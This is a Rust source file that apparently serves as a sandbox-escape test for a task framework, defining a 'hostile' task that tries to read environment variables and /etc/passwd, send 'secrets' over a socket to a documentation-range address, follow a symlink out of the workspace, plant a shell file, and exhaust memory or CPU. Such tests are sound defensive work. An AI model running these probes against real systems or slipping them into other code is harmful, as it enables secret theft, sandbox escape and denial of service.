//! Tries what a stolen task would try.
//!
//! An attempt that is refused fails the step. A step of this task that succeeds got in.

use std::fs;
use std::io::Write as _;
use std::net::TcpStream;
use stepwell_task::{Result, WorkspacePath, choice, fail, info};

choice! {
    /// What to try.
    pub enum Attempt {
        /// Read the host's environment.
        Environment = "environment",
        /// Read `/etc/passwd`.
        Passwords = "passwords",
        /// Open a socket.
        Socket = "socket",
        /// Leave the workspace through a symbolic link.
        Link = "link",
        /// Write to the workspace, which is granted for reading only.
        Write = "write",
        /// Allocate for ever.
        Memory = "memory",
        /// Compute for ever.
        Loop = "loop",
    }
}

stepwell_task::task! {
    /// Tries what a stolen task would try.
    name: "hostile",
    needs: [workspace(read)],
    inputs: Inputs {
        /// What to try.
        attempt: Attempt,
        /// A symbolic link in the workspace that leads out of it.
        link: Option<WorkspacePath>,
    },
    outputs: Outputs {},
    run: attack,
}

fn attack(inputs: Inputs) -> Result<Outputs> {
    match inputs.attempt {
        Attempt::Environment => environment()?,
        Attempt::Passwords => read("/etc/passwd")?,
        Attempt::Socket => socket()?,
        Attempt::Link => match inputs.link {
            Some(link) => read(&link.to_string())?,
            None => fail!("the attempt `link` needs the input `link`"),
        },
        Attempt::Write => write()?,
        Attempt::Memory => memory(),
        Attempt::Loop => spin(),
    }
    Ok(Outputs {})
}

fn environment() -> Result<()> {
    let stolen: Vec<String> = std::env::vars().map(|(name, _)| name).collect();
    info!("sees these variables: {}", stolen.join(", "));
    if !stolen.iter().any(|name| name == "PATH" || name == "HOME") {
        fail!("refused: the host's environment is not there");
    }
    Ok(())
}

fn read(path: &str) -> Result<()> {
    match fs::read_to_string(path) {
        Ok(text) => info!("read {} bytes of {path}", text.len()),
        Err(error) => fail!("refused: reading {path}: {error}"),
    }
    Ok(())
}

fn socket() -> Result<()> {
    // An address of the documentation's range: nobody is there, but nobody is asked either.
    match TcpStream::connect("192.0.2.1:443").and_then(|mut stream| stream.write_all(b"secrets")) {
        Ok(()) => info!("sent the secrets"),
        Err(error) => fail!("refused: connecting: {error}"),
    }
    Ok(())
}

fn write() -> Result<()> {
    match fs::write("/planted", "#!/bin/sh") {
        Ok(()) => info!("planted a file"),
        Err(error) => fail!("refused: writing a file: {error}"),
    }
    Ok(())
}

fn memory() {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        hoard.push(vec![1; 1 << 20]);
        std::hint::black_box(&hoard);
    }
}

fn spin() {
    loop {
        std::hint::black_box(());
    }
}
